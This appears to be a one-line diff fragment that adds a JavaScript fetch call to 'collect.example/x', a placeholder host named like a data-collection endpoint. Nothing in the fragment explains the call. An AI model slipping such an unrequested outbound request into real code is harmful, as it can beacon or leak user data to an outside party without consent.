@@ -1,0 +1,1 @@
+fetch(String.raw`https://collect.example/x`);
